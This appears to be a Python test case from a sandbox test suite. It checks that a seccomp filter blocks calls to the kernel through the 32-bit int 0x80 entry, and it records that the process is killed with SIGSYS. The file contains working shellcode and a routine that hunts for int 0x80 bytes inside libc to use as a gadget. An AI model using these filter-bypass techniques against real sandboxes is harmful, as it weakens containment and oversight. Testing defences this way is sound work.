"""Call the kernel by the entry for 32-bit programs, from its own machine code or else from a library's.

id: P46
kind: process
stopped by: seccomp filter died: SIGSYS
outcome: died: SIGSYS
without them: done
machine: x86_64
"""

import ctypes
import mmap
import os

from attacker import libc, run_code

# push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
CODE = b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3"
INT_80 = CODE[6:8]


def attack(target):
    try:
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return run_code(find_gate())
    memory.write(CODE)
    return "done" if run_code(ctypes.addressof(ctypes.c_char.from_buffer(memory))) == os.getpid() else "nothing"


def find_gate():
    """Find the bytes of the entry in the C library or in Python, where they are part of other instructions."""
    for library, names in ((libc, ("abort", "wordexp")), (ctypes.pythonapi, ("PyList_New", "Py_BytesMain"))):
        start, end = sorted(ctypes.cast(getattr(library, name), ctypes.c_void_p).value for name in names)
        position = ctypes.string_at(start, end - start).find(INT_80)
        if position >= 0:
            return start + position
    raise LookupError("no code that calls the kernel by this entry")
